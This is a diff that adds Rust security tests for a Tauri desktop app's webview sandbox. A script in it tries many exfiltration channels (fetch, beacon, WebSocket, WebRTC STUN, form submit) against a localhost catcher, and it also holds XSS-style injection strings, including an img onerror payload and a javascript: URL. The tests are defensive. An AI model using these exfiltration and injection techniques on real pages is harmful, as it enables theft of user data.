@@ -1,0 +1,115 @@
+//! What the page can't do, tried by a hostile script inside it.
+
+use std::io::ErrorKind;
+use std::net::{Ipv4Addr, TcpListener, TcpStream};
+use std::path::Path;
+
+use journeys::window::{App, Display, Home, Page, Session};
+use serde_json::json;
+
+fn start(home: &Home, display: &Display) -> App {
+    App::start(&App::driven_beside(Path::new(crate::SHIPPED)), home, display)
+}
+
+/// Every way out that a page has.
+const WAYS_OUT: &str = "
+    const out = arguments[0] + '?leak';
+    const soon = (start) => new Promise((go) => { const t = setTimeout(go, 1500); start(() => { clearTimeout(t); go(); }); });
+    const add = (name, set) => soon((go) => {
+      const e = document.createElement(name); e.onload = e.onerror = go; set(e); document.body.append(e);
+    });
+    await Promise.allSettled([
+      add('img', (e) => { e.src = out; }),
+      add('link', (e) => { e.rel = 'stylesheet'; e.href = out; }),
+      add('link', (e) => { e.rel = 'prefetch'; e.href = out; }),
+      add('iframe', (e) => { e.src = out; }),
+      add('video', (e) => { e.src = out; }),
+      add('object', (e) => { e.data = out; }),
+      add('script', (e) => { try { e.src = out; } catch { /* trusted types */ } }),
+      fetch(out).catch(() => {}),
+      soon((go) => { try { new EventSource(out).onerror = go; } catch { go(); } }),
+      soon((go) => { try { new WebSocket(out.replace('http', 'ws')).onerror = go; } catch { go(); } }),
+      soon((go) => { try { navigator.sendBeacon(out, 'leak'); } catch { } go(); }),
+      soon((go) => {
+        try {
+          const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(out).host }] });
+          peer.createDataChannel('x'); peer.createOffer().then((o) => peer.setLocalDescription(o), go);
+        } catch { go(); }
+      }),
+      soon((go) => { window.open(out); const a = document.createElement('a'); a.href = out; a.download = 'x'; a.click(); go(); }),
+      soon((go) => { const f = document.createElement('form'); f.action = out; document.body.append(f); f.submit(); }),
+      soon((go) => { location.href = out; }),
+    ]);
+    return location.href;";
+
+#[test]
+fn no_script_in_the_page_can_send_anything_out() {
+    let catcher = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+    let address = catcher.local_addr().unwrap();
+    // The catcher catches.
+    drop(TcpStream::connect(address).unwrap());
+    drop(catcher.accept().unwrap());
+    catcher.set_nonblocking(true).unwrap();
+
+    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
+    let app = start(&home, &display);
+    let at = app.session.run_async(WAYS_OUT, &[json!(format!("http://{address}/"))]).unwrap();
+    assert!(at.as_str().unwrap().starts_with("tauri://localhost"), "{at}");
+    assert_eq!(catcher.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "something came out");
+}
+
+#[test]
+fn a_script_can_ask_for_nothing_but_the_table() {
+    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
+    let app = start(&home, &display);
+    let page = Page::new(&app.session);
+    assert_eq!(page.session.run("return typeof window.__TAURI__", &[]), "undefined");
+    let script = "const [command, args] = arguments;
+        return await window.__TAURI_INTERNALS__.invoke(command, args)";
+    for (command, arguments) in [
+        ("plugin:event|emit", json!({ "event": "event", "payload": null })),
+        ("plugin:window|create", json!({ "options": { "label": "other" } })),
+        ("plugin:webview|create_webview_window", json!({ "options": { "label": "other" } })),
+        ("plugin:window|set_title", json!({ "label": "main", "value": "x" })),
+        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
+        ("plugin:app|version", json!({})),
+        ("plugin:dialog|open", json!({ "options": {} })),
+        ("plugin:resources|close", json!({ "rid": 0 })),
+    ] {
+        let error = page.session.run_async(script, &[json!(command), arguments]).unwrap_err();
+        let error = error.as_str().unwrap().to_owned();
+        assert!(error.contains("not allowed") || error.contains("not found"), "{command}: {error}");
+    }
+}
+
+#[test]
+fn the_page_runs_no_text_as_code() {
+    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
+    let app = start(&home, &display);
+    let script = "window.ran = [];
+        const tries = {
+          inline: () => { const s = document.createElement('script'); s.textContent = \"window.ran.push('inline')\"; document.body.append(s); },
+          handler: () => { document.body.setAttribute('onclick', \"window.ran.push('handler')\"); document.body.click(); },
+          html: () => { const d = document.createElement('div'); d.innerHTML = \"<img src=x onerror=window.ran.push('html')>\"; document.body.append(d); },
+          timer: () => { setTimeout(\"window.ran.push('timer')\"); },
+          data: () => { const s = document.createElement('script'); s.src = \"data:text/javascript,window.ran.push('data')\"; document.body.append(s); },
+          address: () => { const a = document.createElement('a'); a.href = \"javascript:window.ran.push('address')\"; document.body.append(a); a.click(); },
+        };
+        for (const go of Object.values(tries)) { try { go(); } catch { } }
+        await new Promise((go) => setTimeout(go, 300));
+        return window.ran;";
+    assert_eq!(app.session.run_async(script, &[]).unwrap(), json!([]));
+    // The same script elsewhere does run: the policy stops it, not a mistake in it.
+    let policy = "const seen = []; document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+        const s = document.createElement('script'); try { s.textContent = '1'; document.body.append(s); } catch { seen.push('trusted-types'); }
+        await new Promise((go) => setTimeout(go, 100)); return seen;";
+    let seen = app.session.run_async(policy, &[]).unwrap();
+    assert_ne!(seen, json!([]), "nothing was stopped");
+}
+
+#[test]
+fn the_shipped_program_can_not_be_driven() {
+    let (display, home) = (Display::start(), Home::new("C.UTF-8"));
+    let refused = Session::try_start(home.command("WebKitWebDriver", &display), Path::new(crate::SHIPPED), &[]);
+    assert!(refused.is_err(), "a driver got hold of the page");
+}
